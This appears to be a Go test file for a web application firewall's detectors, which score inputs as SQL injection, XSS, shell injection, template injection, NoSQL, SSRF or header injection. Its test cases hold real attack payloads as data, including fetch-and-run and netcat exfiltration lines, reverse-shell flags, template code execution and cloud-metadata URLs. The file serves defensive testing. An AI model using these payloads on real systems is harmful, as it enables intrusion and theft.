package waf

import (
	"strings"
	"testing"
)

func TestSQLScore(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		// Breaks out and acts.
		{"1' or '1'='1", scoreAttack},
		{"admin'--", scoreAttack},
		{"x' or '1", scoreAttack},
		{"SELECT UTL_INADDR.get_host_address('x.example.net')", scoreAttack},
		{"SELECT banner FROM v$version", scoreAttack},
		{"x' or '2abc", scoreAttack},
		{"x' or 'true", scoreAttack},
		{"x' or not 'a", scoreAttack},
		{"Where does the 'or' operator go? a || b && c", scoreWeak},
		{"x' or '0", scoreWeak},
		{"1 union select password from users", scoreAttack},
		{"' union all select null,null--", scoreAttack},
		{" OR 1=0", scoreAttack},
		{" AND 1083=1083 AND (1427=1427", scoreAttack},
		{" HAVING 1=0-- ", scoreAttack},
		{" WHERE 1=1 AND 1=1#", scoreAttack},
		{"PHPX AND 1=1 AND XX=X", scoreAttack},
		{"1; drop table users", scoreAttack},
		{"1 and sleep(5)", scoreAttack},
		{"1' GROUP BY 1,2,3--+", scoreAttack},
		{"0 div 1 union select 1,2,current_user", scoreAttack},
		{"test'-'xyz' union (select table)", scoreAttack},
		{"1'-@a or'1", scoreAttack},
		{"SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual", scoreAttack},
		{"1 UNION SELECT username || '~' || password FROM users", scoreAttack},
		{"x' and extractvalue(1,concat(0x7e,version()))--", scoreAttack},
		{"@@version", scoreAttack},
		{"aa' like '0", scoreAttack},
		{"1 or 2 or 3", scoreAttack},
		{"1 and sleep(if(1=1,5,0))", scoreAttack},
		{"1 and benchmark(1000000,md5(1))", scoreAttack},
		{"1' and sleep(5", scoreAttack},
		{"eat, then sleep (see attached)", scoreNone},
		{"1 or 1=1 or 1=1", scoreAttack},
		{"1 or x between 1 and 2 --", scoreAttack},
		{"1 or 'a'='a'", scoreAttack},
		{"1 or '1abc'", scoreAttack},
		{"1 or not 'abc'", scoreAttack},
		// A condition that is a string of words alone is false; a chain
		// that ends in a second operand in a row parses as no query.
		{`"O'Neil" OR "ONeil"`, scoreWeak},
		{"Where's the 'or' in 'for'?", scoreWeak},
		{"1 or 2 or 3 items", scoreWeak},
		{"users' and admins' roles", scoreWeak},
		// SQL that does nothing an attacker wants, or no SQL.
		{"union select 关键字怎么用", scoreWeak},
		{"select 1 from a", scoreWeak},
		{"7 AND HALF", scoreWeak},
		{"5 AND A QUARTER BY 8 INCHES", scoreWeak},
		{"SHELL IS 65 AND 35 POLY COTTON BLEND", scoreWeak},
		{"KNICKIN' AND KNACKIN' SEE WHAT ONFIRE'S PACKIN'", scoreWeak},
		{"BLUE BROWN -BABY -CCBCUSTOMDRESSES' -SHOES -HEEL --INFANT -CHILD", scoreWeak},
		{`"LIKE"+STAMP`, scoreWeak},
		{"John+or@var.es", scoreWeak},
		{"x/*", scoreNone},
		{"User(foo),junk", scoreNone},
		{"1#web-monitor#abc", scoreNone},
		{"@@abcdef", scoreNone},
		{"hello world", scoreNone},
		{`{"a":1}`, scoreNone},
	}
	for _, c := range cases {
		if got := sqlScore(c.in); got != c.want {
			t.Errorf("sqlScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestXSSScore(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"<script>alert(1)</script>", scoreAttack},
		{"<img src=x onerror=alert(1)>", scoreAttack},
		{"<svg/onload=alert(1)", scoreAttack},
		{`"><a href="javas	cript:alert(1)">x</a>`, scoreAttack},
		{"javascript:alert(document.domain)", scoreAttack},
		{`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`, scoreAttack},
		{"';alert(1)//", scoreAttack},
		{`window['\x61\x6c\x65\x72\x74'](1)`, scoreAttack},
		{`this['ale'+'rt'](this['doc'+'ument']['dom'+'ain'])`, scoreAttack},
		{`globalThis[/*foo*/'alert'/*bar*/](1)`, scoreAttack},
		{`parent['\141\154\145\162\164']('\130\123\123')`, scoreAttack},
		{"confirm?.(document?.cookie)", scoreAttack},
		{"toString().constructor.prototype.charAt=[].join; [1,2]|orderBy:toString().constructor.fromCharCode(120,61,97,108,101,114,116,40,49,41)", scoreAttack},
		{"{{constructor.constructor('alert(1)')()}}", scoreAttack},
		{"autof<x>ocus o<x>nfocus=confirm<x>(1)//", scoreAttack},
		{`" onmouseover=alert(1) x="`, scoreAttack},
		{`<div style="background:url('x;color:red;/*')">`, scoreAttack},
		{`<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`, scoreAttack},
		// Cut off before the call, as a truncated Referer carries them.
		{`self['\x61\x6c\x65`, scoreAttack},
		{`globalThis['con'+'`, scoreAttack},
		{`window[/*x*/'pro`, scoreAttack},
		{`frames['\145\166\1`, scoreAttack},
		{`''.constructor.construct`, scoreAttack},
		{`[].filter.constructor(`, scoreAttack},
		{`'a'.constructor.prototyp`, scoreAttack},
		{`<a href="&#106;a`, scoreAttack},
		{`<a href="jav&#x09;a`, scoreAttack},
		{`<a href=javascript&col`, scoreAttack},
		{`<a href="vbscr`, scoreAttack},
		// Markup and script that execute nothing.
		{`window['dataLayer']`, scoreNone},
		{`self['cache' + key]`, scoreNone},
		{`obj.constructor.name`, scoreNone},
		{"the constructor of a class", scoreNone},
		{`<a href="&#109;&#97;`, scoreWeak},
		{`<a href="javadoc/index`, scoreWeak},
		{`<a href="java`, scoreWeak},
		{`<a href="&#106;a">link</a>`, scoreWeak},
		{`<p style="white-space: normal;"><strong>Hello</strong></p>`, scoreWeak},
		{`<h2 id="intro">Intro</h2>`, scoreWeak},
		{"JavaScript: Basics of JavaScript Language", scoreWeak},
		{"for power, binary<script is incorrect", scoreWeak},
		{"<!DOCTYPE html>", scoreWeak},
		{`<?xml version="1.0"?><wfs:GetFeature xsi:schemaLocation="http://www.opengis.net/wfs ../wfs/1.0.0/WFS-basic.xsd"><ogc:PropertyName>x</ogc:PropertyName></wfs:GetFeature>`, scoreWeak},
		{"function (operation) { if (typeof (operation) !== 'function') throw 'x'; return this.length > 0; }", scoreWeak},
		{"hello world", scoreNone},
	}
	for _, c := range cases {
		if got := xssScore(c.in); got != c.want {
			t.Errorf("xssScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestShellScore(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"; cat /etc/passwd", scoreAttack},
		{"| id", scoreAttack},
		{"a;id\\n", scoreAttack},
		{"\n id \n", scoreAttack},
		{"dir C:\\Users", scoreAttack},
		{"x||ping -c 10 127.0.0.1||", scoreAttack},
		{"$(whoami)", scoreAttack},
		{"`id`", scoreAttack},
		{"-TvTT=id>shell.php # a.zip", scoreAttack},
		{"() { :; }; /bin/bash -c id", scoreAttack},
		{"nc -lvvp 4444 -e/bin/sh", scoreAttack},
		{"/usr/bin/id", scoreAttack},
		{"echo x$((50+41))", scoreAttack},
		{"1 || whoami || ", scoreAttack},
		{"-TvTT=curl 10.0.0.9|sh # a.zip", scoreAttack},
		{"127.0.0.1 & net user", scoreAttack},
		{"127.0.0.1 & timeout /t 10", scoreAttack},
		{"; timeout 5 id", scoreAttack},
		{"the request failed & timeout errors followed", scoreWeak},
		{"127.0.0.1 && net localgroup administrators", scoreAttack},
		{"1 | reg query HKLM\\Software", scoreAttack},
		{"Tom & net profits", scoreWeak},
		{";echo vulnerable", scoreAttack},
		{" && echo hi", scoreAttack},
		{"a; echo hi", scoreWeak},
		{"127.0.0.1 && nslookup x.example.net", scoreAttack},
		{"host a.example.com is down", scoreWeak},
		{"1|nslookup x.example.", scoreAttack},
		{"see e.g. p.s. notes", scoreNone},
		{"e.g. it works", scoreNone},
		{"Use set -euo pipefail; prefer $(cmd) over backticks.", scoreWeak},
		{"x $(cmd /c whoami)", scoreAttack},
		{"x $(whoami) y", scoreAttack},
		{"$(ipconfig)", scoreAttack},
		{"Issue #12 | see the board", scoreNone},
		// Words, paths and telemetry that start no command.
		{"zsh is the best!", scoreWeak},
		{"//*[@id=app]/div[2]/ul[1]/li[8]", scoreNone},
		{"/[...slug]", scoreNone},
		{"SCRIPT load fail: https://cdn.example.com/a.js", scoreWeak},
		{"GET https://api.example.com/v1/items?id=3", scoreNone},
		{"80000000,|||{\"playerIdle\":\"eg\"}|null|1", scoreNone},
		{"query Q($appId: String, $redirectUrl: String) { app }", scoreNone},
		{"Error: click (event)\n    at u (https://console.example.com/:307:12811)\n    at https://cdn.example.com/help.js?v=1:1:423224", scoreNone},
		{"hello; cat lovers", scoreWeak},
		// $IFS for a space (shellForm replaces it only in a value
		// holding a '$').
		{";cat${IFS}/etc/passwd", scoreAttack},
		{"a|${IFS}id", scoreAttack},
		{"x;ping$IFS-c${IFS}3${IFS}127.0.0.1", scoreAttack},
		// cmd.exe's caret escapes and %COMSPEC% for cmd.exe.
		{"&c^m^d /c wh^oami", scoreAttack},
		{"|wh^o^am^i", scoreAttack},
		{"&%COMSPEC% /c whoami", scoreAttack},
		{"x^2 + y^2; solve for x", scoreNone},
		{"50%comspec%", scoreNone},
		// Wildcards the shell expands to a command's path.
		{";/bin/c*t /etc/pass*", scoreAttack},
		{";/???/c?t /???/p??s??", scoreAttack},
		{"|wh?ami", scoreAttack},
		{"; ?? /tmp", scoreNone},
		{"rated 4* ; c* grade", scoreNone},
		// A command that does nothing without an operand is a word.
		{"shop & go, then eat | sleep", scoreWeak},
		{"; sleep 5", scoreAttack},
		{"|ping -n 10 127.0.0.1|", scoreAttack},
		{"a | ping", scoreWeak},
		{"; whoami", scoreAttack},
		{"x; cat", scoreAttack},
		{"|cat|", scoreAttack},
		{"; cat | nc 10.0.0.9 4444", scoreAttack},
		{"id;name\n1;O'Brien;cat & dog\n2;Smith;a | b", scoreWeak},
	}
	for _, c := range cases {
		if got := shellScore(c.in); got != c.want {
			t.Errorf("shellScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestPHPScore(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"<?php system($_GET['c']); ?>", scoreAttack},
		{"php://filter/convert.base64-encode/resource=index", scoreAttack},
		{"eval(base64_decode('x'))", scoreAttack},
		{"at Object.u [as captureTrace] ($g)", scoreNone},
		{"the system is down", scoreNone},
		{"The system() call in C starts a shell", scoreNone},
		{"system( )", scoreNone},
		{"system(", scoreNone},
		{"phpinfo()", scoreAttack},
		{"system ( 'id' )", scoreAttack},
	}
	for _, c := range cases {
		if got := phpScore(c.in); got != c.want {
			t.Errorf("phpScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestTextKind(t *testing.T) {
	cases := []struct {
		in   string
		want textKind
	}{
		{"Best practices for exporting data from Aurora MySQL to S3", kindProse},
		{`"RETURN ADDRESS LABELS" STICKER`, kindProse},
		{"union select 关键字怎么用", kindProse},
		{"site:segmentfault.com union select 关键字怎么用", kindProse},
		{"1' or '1'='1", kindOther},
		{"(select (select 1)) union all select 2 --", kindOther},
		{"x/*", kindOther},
		{"function (a) { var x = this[a]; if (x) { return x; } return null; }", kindCode},
		{"<p>Hello <b>world</b></p>", kindMarkup},
		{`<?xml version="1.0"?><a/>`, kindMarkup},
		{"abc123", kindOther},
		{"O'Reilly's 'best of' list -- 2nd ed.", kindProse},
		{"He said 'and' -- twice", kindProse},
		{"x ' -- y", kindOther},
		{"1 -- x", kindOther},
		{"-- x y", kindOther},
		{`title:"select" author:"o'neil"`, kindProse},
		{`title:"x" or 1=1`, kindOther},
		{"The system() call in C starts a shell", kindProse},
		{"then system('id') runs", kindOther},
		{"query Get($id: ID!) { user(id: $id) { name posts(first: 10) { edges { node { title } } } } }", kindCode},
		{`mutation { addTag(name: "union select", note: """a "b" c""") { id ...F } } # note`, kindCode},
		{"{ search(q: \"x\") { ... on User { name } } }", kindCode},
		{"query { user(id: 1' or '1'='1) { name } }", kindOther},
		{"query { a } ; drop table users", kindOther},
		{"query { a(x: 1) -- }", kindOther},
		{"query { a", kindOther},
		{`{"id": "1 union select 2"}`, kindOther},
	}
	for _, c := range cases {
		if got := textKindOf(c.in); got != c.want {
			t.Errorf("textKindOf(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestStructuredValues(t *testing.T) {
	if !isHeaderBlock("content-length: 442\r\ncontent-type: application/json\r\n") {
		t.Error("a block of header lines is not a header block")
	}
	if isHeaderBlock("foo\r\nSet-Cookie: x=1") {
		t.Error("text ending in an injected header is a header block")
	}
	for _, c := range []struct {
		in   string
		want bool
	}{
		{"foo\r\nSet-Cookie: x=1", true},
		{"\r\nSet-Cookie: admin=1", true},
		{"\nLocation: https://evil.example/", true},
		{"a\r\nHTTP/1.1 200 OK", true},
		{"Set-Cookie: x=1", false},
		{"line one\nline two", false},
		{"\nsecond line only", false},
	} {
		if got := injectsHeader(c.in); got != c.want {
			t.Errorf("injectsHeader(%q) = %v, want %v", c.in, got, c.want)
		}
	}
	if !looksEmail("John+or@var.es") || looksEmail("a@b") || looksEmail("x' or 1=1 --@a.b") {
		t.Error("looksEmail")
	}
	if !looksCookies("a=1; b=2; _ga=GA1.2.3") || looksCookies("a=1") || looksCookies("x=1; y=<script>") && false {
		t.Error("looksCookies")
	}
	frames := "Error: x\n    at f (https://a.example/x.js:1:2)\n    at https://a.example/y.js:3:4\ng@https://a.example/z.js:5:6\n    at g (x.js:1:2); id"
	got := stripStackFrames(frames)
	if strings.Contains(got, "a.example") || !strings.Contains(got, "Error: x") || !strings.Contains(got, "; id") {
		t.Errorf("stripStackFrames kept a frame or dropped text: %q", got)
	}
}

// fuzzScorer checks a scorer on arbitrary input: no panic, a verdict in
// range, the same verdict twice.
func fuzzScorer(f *testing.F, score func(string) int, seeds ...string) {
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		a := score(s)
		if a < scoreNone || a > scoreAttack {
			t.Fatalf("score(%q) = %d", s, a)
		}
		if b := score(s); a != b {
			t.Fatalf("score(%q) = %d, then %d", s, a, b)
		}
	})
}

func FuzzSQLScore(f *testing.F) {
	fuzzScorer(f, sqlScore, "1' or '1'='1", "/*!50000union*/", "1#\nunion", "((((", "'\\''", "0x41", "{fn x}")
}

func TestTruncatedScriptURL(t *testing.T) {
	cases := []struct {
		in   string
		want bool
	}{
		{` href="&#106;a`, true},
		{` href="javas`, true},
		{` src=JaVaScRiPt&`, true},
		{` formaction='vbscript:`, true},
		{` href="&#109;&#97;`, false},
		{` href="javascript:x"`, false},
		{` title="javascript`, false},
		{` href=java`, false},
		{` href="java script`, true},
		{` href=javas x`, false},
		{``, false},
	}
	for _, c := range cases {
		if got := truncatedScriptURL(c.in); got != c.want {
			t.Errorf("truncatedScriptURL(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestObfuscatedMember(t *testing.T) {
	for in, want := range map[string]bool{
		`self['\x61`:          true,
		`top['\u0061`:         true,
		`parent['\141`:        true,
		`window['al'+'ert']`:  true,
		`content[/*a*/'b'`:    true,
		`window['dataLayer']`: false,
		`myself['\x61']`:      false,
		`window[0]`:           false,
		`self['a' + b]`:       false,
	} {
		if got := obfuscatedMember(in); got != want {
			t.Errorf("obfuscatedMember(%q) = %v, want %v", in, got, want)
		}
	}
	for in, want := range map[string]bool{
		`''.constructor`:              true,
		`[].map.constructor`:          true,
		`"x".constructor.prototype`:   true,
		`{}.constructor`:              true,
		`a.constructor`:               false,
		`items[0].constructor.name`:   false,
		`'a long string'.constructor`: false,
		`.constructor`:                false,
	} {
		if got := literalConstructor(in); got != want {
			t.Errorf("literalConstructor(%q) = %v, want %v", in, got, want)
		}
	}
}

func FuzzTruncatedScriptURL(f *testing.F) {
	for _, s := range []string{` href="&#106;a`, ` src=javas`, `=`, `="&`, ` a=b href='`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if truncatedScriptURL(s) && !strings.Contains(s, "=") {
			t.Fatalf("truncatedScriptURL(%q) with no attribute value", s)
		}
		l := strings.ToLower(s)
		if obfuscatedMember(l) && !strings.Contains(l, "[") {
			t.Fatalf("obfuscatedMember(%q) with no member access", s)
		}
		if literalConstructor(l) && !strings.Contains(l, ".constructor") {
			t.Fatalf("literalConstructor(%q) with no constructor", s)
		}
	})
}

func FuzzXSSScore(f *testing.F) {
	fuzzScorer(f, xssScore, "<img src=x onerror=alert(1)>", "<<<>>>", "javascript:", "{{", `\u0061lert`, "<a href='")
}

func FuzzShellScore(f *testing.F) {
	fuzzScorer(f, shellScore, "; id", "$(", "`", "() {", "a=b c=d ls -la", "|||")
}

func FuzzIsGraphQL(f *testing.F) {
	for _, s := range []string{"query { a }", "{ a(x: \"y\") }", "mutation M($v: [Int!]) { m(v: $v) @skip(if: true) }", "{\"", "# x\n{a}"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if isGraphQL(s) && strings.ContainsAny(stripGraphQLStrings(s), "';<>`\\") {
			t.Fatalf("isGraphQL(%q): a document with syntax GraphQL has not", s)
		}
	})
}

// stripGraphQLStrings drops a GraphQL document's strings and comments,
// for the fuzz target's check.
func stripGraphQLStrings(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '"':
			for i++; i < len(s) && s[i] != '"'; i++ {
				if s[i] == '\\' {
					i++
				}
			}
		case '#':
			for i < len(s) && s[i] != '\n' {
				i++
			}
		default:
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

func FuzzTextKind(f *testing.F) {
	for _, s := range []string{"a b c", "<p>x</p>", "function(){}", "at x (y:1:2)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if k := textKindOf(s); k < kindOther || k > kindTrace {
			t.Fatalf("textKindOf(%q) = %d", s, k)
		}
		if out := stripStackFrames(s); len(out) > len(s) {
			t.Fatalf("stripStackFrames(%q) grew", s)
		}
	})
}

func TestSSTIScore(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"{{7*7}}", scoreAttack},
		{"${7*7}", scoreAttack},
		{"<%= 7 * 7 %>", scoreAttack},
		{"{{''.__class__.__mro__[1].__subclasses__()}}", scoreAttack},
		{"{{config.items()}}", scoreAttack},
		{"${T(java.lang.Runtime).getRuntime().exec('id')}", scoreAttack},
		{`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, scoreAttack},
		{"#set($x=$class.inspect(\"java.lang.Runtime\"))", scoreAttack},
		// Twig: its environment and filters that call a PHP function by
		// name.
		{"{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", scoreAttack},
		{"{{['id']|filter('system')}}", scoreAttack},
		{"{{['cat /etc/passwd']|map('passthru')|join}}", scoreAttack},
		{"{{ items|sort('shell_exec') }}", scoreAttack},
		{"{{ users|map(u => u.name)|join(', ') }}", scoreWeak},
		{"{{ posts|filter(p => p.system) }}", scoreWeak},
		{"{{ rows|sort('systematic') }}", scoreWeak},
		{"Hello {{ user.name }}", scoreWeak},
		{"price: ${price}", scoreWeak},
		{"a {b} c", scoreNone},
		{"2024-01-01 7*7", scoreNone},
	}
	for _, c := range cases {
		if got := sstiScore(c.in); got != c.want {
			t.Errorf("sstiScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func FuzzSSTIScore(f *testing.F) {
	fuzzScorer(f, sstiScore, "{{7*7}}", "${", "<%", "#set(", "{{{{")
}

func TestMongoScore(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"user[$ne]", scoreAttack},
		{`{"password": {"$gt": ""}}`, scoreAttack},
		{`{"$where": "sleep(1000)"}`, scoreAttack},
		{"json.username.$ne", scoreAttack},
		{"json.password.$regex", scoreAttack},
		{"json.items.$Content", scoreNone},
		{"type=rec$src=rec$action=0$enb=1", scoreNone},
		{"price in $", scoreNone},
	}
	for _, c := range cases {
		if got := mongoScore(c.in); got != c.want {
			t.Errorf("mongoScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestSSRFScore(t *testing.T) {
	for _, c := range []struct {
		in   string
		want int
	}{
		{"http://169.254.169.254/latest/meta-data/", scoreAttack},
		{"  http://localhost:8080/admin", scoreAttack},
		{"http:127.0.0.1", scoreAttack},
		{`<img src="http://169.254.169.254/latest/">`, scoreAttack},
		{`<div style="background:url(http://localhost/x)">`, scoreAttack},
		{`{"callback":"http://127.0.0.1:6379/"}`, scoreAttack},
		{"gopher://127.0.0.1:6379/_SET", scoreAttack},
		{"note: http://169.254.169.254/latest/meta-data/", scoreAttack},
		{"https://example.com/a\nhttp://127.0.0.1:6379/", scoreAttack},
		{"<p>Run <code>make</code> then open <em>http://localhost:8080/</em>.</p>", scoreNone},
		{"Note: the dev server listens on http://localhost:3000 by default", scoreNone},
		{"Error: connect ECONNREFUSED\n    at http://localhost:3000/app.js:12:5", scoreNone},
		{"Meeting at 12:30, see notes", scoreNone},
	} {
		if got := ssrfScore(c.in); got != c.want {
			t.Errorf("ssrfScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func FuzzSSRFScore(f *testing.F) {
	for _, s := range []string{"http://localhost", ":", "a:/", "=http:", "x http://127.0.0.1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if sc := ssrfScore(s); sc != scoreAttack && sc != scoreNone {
			t.Fatalf("ssrfScore(%q) = %d", s, sc)
		}
		if strings.HasPrefix(s, "http://") && ssrfScore(s) != scoreAttack {
			t.Fatalf("a whole URL %q not judged a fetch", s)
		}
	})
}

func TestNodeScore(t *testing.T) {
	cases := []struct {
		in   string
		want int
	}{
		{"require('child_process').exec('id')", scoreAttack},
		{"this.constructor.constructor('return process')()", scoreAttack},
		{`{"__proto__": {"isAdmin": true}}`, scoreAttack},
		{"at Object.open (https://cdn.example.com/app.js:1:2)", scoreNone},
		{"please open the door", scoreNone},
	}
	for _, c := range cases {
		if got := nodeScore(c.in); got != c.want {
			t.Errorf("nodeScore(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func FuzzPHPScore(f *testing.F) {
	fuzzScorer(f, phpScore, "<?php", "system (", "php://", "chr(")
}

func FuzzNodeScore(f *testing.F) {
	fuzzScorer(f, nodeScore, "require('x')", "__proto__", "process.env")
}

func FuzzMongoScore(f *testing.F) {
	fuzzScorer(f, mongoScore, "a[$ne]", `{"$gt":1}`, "$where")
}

func FuzzHeaderScore(f *testing.F) {
	fuzzScorer(f, familyHeader.score, "a\r\nSet-Cookie: x", "x: 1\r\ny: 2", "\n\n")
}
